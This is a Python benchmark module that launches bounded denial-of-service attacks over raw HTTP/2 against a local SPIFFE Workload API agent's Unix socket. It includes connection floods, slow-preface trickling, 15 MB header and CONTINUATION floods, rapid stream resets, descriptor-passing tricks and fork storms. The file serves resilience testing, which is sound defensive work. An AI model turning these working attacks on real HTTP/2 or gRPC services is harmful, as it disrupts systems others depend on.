"""What a pod that runs wild could do to its own socket, each kind in a process of its own and bounded in time.

    python -m bench.attacks --seconds 5 KIND SOCKET...

Raw HTTP/2, as a client's library would hold back most of it. Prints `attacking` when it begins and at its end a count
of what it did: connections, streams or requests, whatever the kind is made of.
"""

import argparse
import itertools
import os
import select
import socket
import struct
import tempfile
import threading
import time
from collections import deque
from collections.abc import Callable, Iterator, Mapping, Sequence
from contextlib import suppress
from functools import partial
from types import MappingProxyType
from typing import Final

DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
ACK = 1
LARGEST: Final = 2**31 - 1
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
FETCH, TOKEN = b"/SpiffeWorkloadAPI/FetchX509SVID", b"/SpiffeWorkloadAPI/FetchJWTSVID"
SECRETS = b"/envoy.service.secret.v3.SecretDiscoveryService/StreamSecrets"
# Seconds that an attacker waits for the agent before it goes on elsewhere.
PATIENCE = 1.0
# An agent that closes connections as fast as they come must still let them be counted.
CONNECTIONS, STREAMS, CHILDREN, HOLDERS = 10_000, 1_000, 16, 30
# Bytes of one call's headers.
LARGE = 15 << 20
Attack = Callable[[Sequence[str], Callable[[], bool]], int]


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """One HTTP/2 frame."""
    return len(payload).to_bytes(3, "big") + struct.pack(">BBI", kind, flags, stream) + payload


def literal(name: bytes, value: bytes) -> bytes:
    """A header as HPACK spells it without any table."""
    return b"\0" + _length(name) + name + _length(value) + value


def headers(path: bytes, *more: tuple[bytes, bytes]) -> bytes:
    """The header block of a gRPC call to `path`, with the Workload API's own header."""
    fields = [(b":path", path), (b":authority", b"localhost"), (b"te", b"trailers")]
    fields += [(b"content-type", b"application/grpc"), (b"workload.spiffe.io", b"true"), *more]
    return b"\x83\x86" + b"".join(literal(*each) for each in fields)


def message(stream: int, content: bytes, flags: int = END_STREAM) -> bytes:
    """A gRPC message in a DATA frame."""
    return frame(DATA, flags, stream, b"\0" + len(content).to_bytes(4, "big") + content)


def _length(text: bytes) -> bytes:
    if len(text) < 127:
        return bytes([len(text)])
    found, rest = b"\x7f", len(text) - 127
    while rest >= 128:
        found += bytes([rest % 128 | 128])
        rest //= 128
    return found + bytes([rest])


def connect(path: str) -> socket.socket:
    """A connection on which nothing was said yet. Raises OSError."""
    found = socket.socket(socket.AF_UNIX)
    found.settimeout(PATIENCE)
    try:
        found.connect(path)
    except OSError:
        found.close()
        raise
    return found


def speaking(path: str) -> socket.socket:
    """A connection that speaks HTTP/2, acknowledges the agent's settings unseen, and lets the agent send as much as it
    likes. Raises OSError."""
    found = connect(path)
    window = frame(SETTINGS, 0, 0, struct.pack(">HI", 4, LARGEST))
    found.sendall(PREFACE + window + frame(SETTINGS, ACK, 0))
    found.sendall(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", LARGEST - 65_535)))
    return found


def silent(path: str) -> socket.socket:
    """A connection that speaks HTTP/2 and acknowledges nothing. Raises OSError."""
    found = connect(path)
    found.sendall(PREFACE + frame(SETTINGS, 0, 0))
    return found


def drain(connection: socket.socket) -> None:
    """Throw away what the agent has said so far. Raises OSError when it closed the connection."""
    waiting = select.poll()
    waiting.register(connection, select.POLLIN)
    while waiting.poll(0):
        if not connection.recv(1 << 16):
            raise ConnectionResetError


def said_and_waited(first: Callable[[], bytes]) -> Attack:
    """Connections that say `first` and wait until they are closed, one after the other."""

    def attack(paths: Sequence[str], going_on: Callable[[], bool]) -> int:
        done = 0
        for path in itertools.cycle(paths):
            if not going_on():
                return done
            with suppress(OSError), connect(path) as each:
                done += 1
                each.sendall(first())
                while each.recv(1 << 16):
                    pass
        return done

    return attack


def flood(paths: Sequence[str], going_on: Callable[[], bool]) -> int:
    """10,000 connections of all attackers, held, half of which acknowledge the settings; those that are closed are made
    again."""
    held: list[socket.socket] = []
    done = 0
    for path in itertools.cycle(paths):
        if not going_on():
            break
        with suppress(OSError):
            held.append(acknowledging(path) if done % 2 else silent(path))
            done += 1
        if len(held) >= CONNECTIONS // ATTACKERS:
            held = [each for each in held if _is_open(each)]
            time.sleep(0.01)
    for each in held:
        each.close()
    return done


def _is_open(connection: socket.socket) -> bool:
    try:
        drain(connection)
    except OSError:
        connection.close()
        return False
    return True


def slow(paths: Sequence[str], going_on: Callable[[], bool]) -> int:
    """As many connections as a socket takes, a byte of the preface a second on each."""
    held: list[tuple[socket.socket, Iterator[int]]] = []
    done = 0
    while going_on():
        for path in paths:
            for _ in range(256 - len(held) // len(paths)):
                with suppress(OSError):
                    held.append((connect(path), iter(PREFACE)))
                    done += 1
        kept = []
        for connection, rest in held:
            try:
                connection.send(bytes([next(rest)]))
                kept.append((connection, rest))
            except (OSError, StopIteration):
                connection.close()
        held = kept
        time.sleep(1)
    return done


def calls_of(
    requests: Callable[[int], bytes], at_once: int, begin: Callable[[str], socket.socket] = speaking
) -> Attack:
    """Connections to each path that send `requests(stream)`, `at_once` at a time, as fast as the agent reads them."""

    def attack(paths: Sequence[str], going_on: Callable[[], bool]) -> int:
        done = 0
        held: dict[str, tuple[socket.socket, Iterator[int]]] = {}
        for path in itertools.cycle(paths):
            if not going_on():
                break
            try:
                connection, streams = held.pop(path) if path in held else (begin(path), itertools.count(1, 2))
                connection.sendall(b"".join(requests(next(streams)) for _ in range(at_once)))
                done += at_once
                drain(connection)
                held[path] = connection, streams
            except OSError:
                continue  # the agent closed it; a new one takes its place
        return done

    return attack


def call(stream: int, *more: tuple[bytes, bytes]) -> bytes:
    """A call of FetchX509SVID with `more` metadata, in as many frames as that takes."""
    return split(stream, headers(FETCH, *more)) + message(stream, b"")


def split(stream: int, block: bytes, most: int = 16_000) -> bytes:
    """A header block in frames of so many bytes at most."""
    parts = [block[at : at + most] for at in range(0, len(block), most)]
    kinds = [HEADERS] + [CONTINUATION] * (len(parts) - 1)
    flags = [0] * (len(parts) - 1) + [END_HEADERS]
    return b"".join(map(frame, kinds, flags, itertools.repeat(stream), parts))


def large(size: int) -> tuple[tuple[bytes, bytes], ...]:
    """Headers of so many bytes together."""
    return tuple((b"x-%d" % number, b"y" * 4_000) for number in range(size // 4_010))


def _reset(stream: int) -> bytes:
    return call(stream) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))


def _token(stream: int) -> bytes:
    audience = b"%d-%d" % (os.getpid(), time.monotonic_ns())
    content = b"\x0a" + bytes([len(audience)]) + audience
    return frame(HEADERS, END_HEADERS, stream, headers(TOKEN)) + message(stream, content)


def _much_metadata(stream: int) -> bytes:
    # Just below what is taken, then far above it.
    many = 3 if stream % 4 == 1 else 100
    return call(stream, *((b"x-%d" % number, b"y" * 4_000) for number in range(many)))


def large_headers(most: int) -> Attack:
    """30 connections to each path with calls that have 15 MB of headers each, in frames of so many bytes. Each is sent
    as fast as the agent reads it; half of them acknowledge the agent's settings. Made again where they are closed."""

    def attack(paths: Sequence[str], going_on: Callable[[], bool]) -> int:
        block = headers(FETCH, *large(LARGE))
        calls = memoryview(b"".join(split(2 * number + 1, block, most) for number in range(4)))
        held: dict[tuple[str, int], tuple[socket.socket, int]] = {}
        done = 0
        while going_on():
            idle = True
            for place in itertools.product(paths, range(HOLDERS)):
                try:
                    if place not in held:
                        begin = acknowledging if place[1] % 2 else silent
                        held[place] = begin(place[0]), 0
                        held[place][0].setblocking(False)
                        done += 1
                    connection, sent = held[place]
                    drain(connection)
                    if more := calls[sent : sent + (1 << 18)]:
                        held[place] = connection, sent + connection.send(more)
                        idle = False
                except BlockingIOError:
                    continue  # it reads slowly, or not any more
                except OSError:
                    if place in held:
                        held.pop(place)[0].close()
            if idle:
                time.sleep(0.001)
        return done

    return attack


def descriptors(paths: Sequence[str], going_on: Callable[[], bool]) -> int:
    """Connections that send a descriptor along, first or later, whose last closing takes as long as a peer likes; then
    they speak no HTTP/2, or go."""
    listening = socket.create_server(("127.0.0.1", 0), backlog=256)
    lingering: deque[tuple[socket.socket, socket.socket]] = deque()
    done = 0
    for path in itertools.cycle(paths):
        if not going_on():
            return done
        sent = socket.create_connection(listening.getsockname())
        lingering.append((sent, listening.accept()[0]))
        sent.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 3600))
        sent.setblocking(False)
        with suppress(BlockingIOError):
            while True:
                sent.send(b"unread" * 10_000)
        with suppress(OSError), connect(path) as each:
            done += 1
            if done % 2:
                each.sendall(PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, ACK, 0) + call(1))
            socket.send_fds(each, [PREFACE], [sent.fileno()])
            each.sendall(b"GET / HTTP/1.1\r\n\r\n")
        # Aside: where it is the last one that closes it, it waits until the other end goes.
        threading.Thread(target=sent.close, daemon=True).start()
        if len(lingering) > HOLDERS:
            lingering.popleft()[1].close()
    return done


def spliced(paths: Sequence[str], going_on: Callable[[], bool]) -> int:
    """Connections whose acknowledgement is a page that is written to while it waits, and then headers of 15 MB."""
    block = memoryview(split(1, headers(FETCH, *large(LARGE))))
    begun = PREFACE + frame(SETTINGS, 0, 0)
    done = 0
    with tempfile.TemporaryFile() as page:
        page.write(begun + frame(SETTINGS, ACK, 0))
        page.flush()

        def changing() -> None:
            while going_on():
                for flags in (0, ACK):
                    os.pwrite(page.fileno(), frame(SETTINGS, flags, 0), len(begun))

        thread = threading.Thread(target=changing)
        thread.start()
        for path in itertools.cycle(paths):
            if not going_on():
                break
            with suppress(OSError), connect(path) as each:
                done += 1
                each.settimeout(None)
                os.sendfile(each.fileno(), page.fileno(), 0, len(begun) + 9)
                each.settimeout(PATIENCE)
                each.sendall(block)
        thread.join()
    return done


def unread(paths: Sequence[str], going_on: Callable[[], bool]) -> int:
    """Streams of every kind, requests and pings, as many as the agent takes; nothing that it answers is read."""
    held: list[socket.socket] = []
    done = 0
    more = frame(PING, 0, 0, b"12345678") * 100
    while going_on():
        for path in paths:
            with suppress(OSError):
                each = speaking(path)
                each.sendall(b"".join(call(2 * number + 1) for number in range(8)))
                each.sendall(frame(HEADERS, END_HEADERS, 17, headers(SECRETS)))
                each.setblocking(False)
                held.append(each)
        kept = []
        for number, each in enumerate(held):
            try:
                each.send(more + message(17, b"\x1a\x07default" if number % 2 else b"\x1a\x06ROOTCA", 0))
                done += 1
                kept.append(each)
            except BlockingIOError:
                kept.append(each)
            except OSError:
                each.close()
        held = kept
        time.sleep(0.01)
    return done


def acknowledging(path: str, settings: bytes = b"") -> socket.socket:
    """A connection that speaks HTTP/2 with these settings, and acknowledges the agent's. Raises OSError."""
    found = connect(path)
    found.sendall(PREFACE + frame(SETTINGS, 0, 0, settings) + frame(SETTINGS, 1, 0))
    return found


def held_calls(requests: Callable[[int], bytes], begin: Callable[[str], socket.socket], holders: int) -> Attack:
    """So many connections to each path with 1,000 calls each, held; made again where they are closed."""

    def attack(paths: Sequence[str], going_on: Callable[[], bool]) -> int:
        held: dict[tuple[str, int], socket.socket] = {}
        done = 0
        while going_on():
            for place in itertools.product(paths, range(holders)):
                try:
                    if place not in held:
                        held[place] = begin(place[0])
                        held[place].sendall(b"".join(requests(2 * number + 1) for number in range(STREAMS)))
                        done += STREAMS
                    drain(held[place])
                except OSError:
                    held.pop(place, None)
            time.sleep(0.01)
        return done

    return attack


def _unfinished(stream: int) -> bytes:
    return frame(HEADERS, END_HEADERS, stream, headers(FETCH))


def _half(stream: int) -> bytes:
    # Half of a message that is never whole, as long as one may be.
    body = b"\0" + (60_000).to_bytes(4, "big") + b"x" * 29_995
    parts = [frame(DATA, 0, stream, body[at : at + 15_000]) for at in (0, 15_000)]
    return frame(HEADERS, END_HEADERS, stream, headers(TOKEN)) + b"".join(parts)


def _asked_for_nothing(stream: int) -> bytes:
    return frame(HEADERS, END_HEADERS | END_STREAM, stream, headers(FETCH))


def asking(paths: Sequence[str], going_on: Callable[[], bool]) -> int:
    """One SDS stream to each path with one request after the other, each for other names than the one before."""
    held: dict[str, socket.socket] = {}
    done = 0
    both = message(1, b"\x1a\x07default", 0) + message(1, b"\x1a\x06ROOTCA", 0)
    for path in itertools.cycle(paths):
        if not going_on():
            return done
        try:
            if path not in held:
                held[path] = speaking(path)
                held[path].sendall(frame(HEADERS, END_HEADERS, 1, headers(SECRETS)))
            held[path].sendall(both * 20)
            done += 40
            drain(held[path])
        except OSError:
            held.pop(path, None)
    return done


def forks(paths: Sequence[str], going_on: Callable[[], bool]) -> int:
    """Processes that connect, ask once and end; a bounded number at a time, one after the other without a pause."""

    def ask(path: str) -> None:
        with suppress(OSError), speaking(path) as each:
            each.sendall(call(1))
            each.recv(1 << 16)

    return _children([partial(ask, path) for path in paths], going_on)


def _children(bodies: Sequence[Callable[[], None]], going_on: Callable[[], bool], pause: float = 0.0) -> int:
    done = running = 0
    for body in itertools.cycle(bodies):
        if running == CHILDREN or not going_on():
            if not running:
                break
            os.wait()
            running -= 1
            continue
        if os.fork() == 0:
            body()
            os._exit(0)
        running += 1
        done += 1
        time.sleep(pause)
    return done


# What one kind is made of, by its name. Two processes do each.
ATTACKERS = 2
KINDS: Mapping[str, Attack] = MappingProxyType(
    {
        "garbage": said_and_waited(lambda: os.urandom(4_096)),
        "http1": said_and_waited(lambda: b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n"),
        "slow": slow,
        "connections": flood,
        "streams": held_calls(call, speaking, 1),
        "unfinished": held_calls(_unfinished, acknowledging, HOLDERS),
        "half": held_calls(_half, acknowledging, HOLDERS),
        "empty": held_calls(_asked_for_nothing, acknowledging, HOLDERS),
        # A window of nothing: no answer can be sent.
        "shut": held_calls(call, partial(acknowledging, settings=struct.pack(">HI", 4, 0)), HOLDERS),
        "reset": calls_of(_reset, 50),
        "calls": calls_of(call, 50),
        "begun": calls_of(_unfinished, 50),
        "tokens": calls_of(_token, 20),
        "metadata": calls_of(_much_metadata, 2),
        "early metadata": calls_of(_much_metadata, 2, silent),
        "headers": large_headers(16_000),
        "continuations": large_headers(64),
        "descriptors": descriptors,
        "spliced": spliced,
        "requests": asking,
        "unread": unread,
        "forks": forks,
    }
)


def burn(share: float, going_on: Callable[[], bool]) -> int:
    """Use `share` of a core and attack nobody."""
    done = 0
    while going_on():
        ends = time.monotonic() + 0.01 * share
        while time.monotonic() < ends:
            pass
        time.sleep(0.01 * (1 - min(share, 1)))
        done += 1
    return done


def main() -> None:
    parser = argparse.ArgumentParser(prog="python -m bench.attacks", description=__doc__)
    parser.add_argument("--seconds", type=float, default=5.0)
    parser.add_argument("--share", type=float, default=1.0, help="of a core, for burn")
    parser.add_argument("--rate", type=float, default=100.0, help="processes a second that do nothing, for idle-forks")
    parser.add_argument("kind", choices=[*KINDS, "burn", "idle-forks"])
    parser.add_argument("sockets", nargs="*")
    given = parser.parse_args()
    sockets: list[str] = given.sockets
    ends: float = time.monotonic() + given.seconds

    def going_on() -> bool:
        return time.monotonic() < ends

    print("attacking", flush=True)
    if given.kind == "burn":
        done = burn(given.share, going_on)
    elif given.kind == "idle-forks":
        done = _children([lambda: None], going_on, 1 / given.rate)
    else:
        done = KINDS[given.kind](sockets, going_on)
    print(done)


if __name__ == "__main__":
    main()
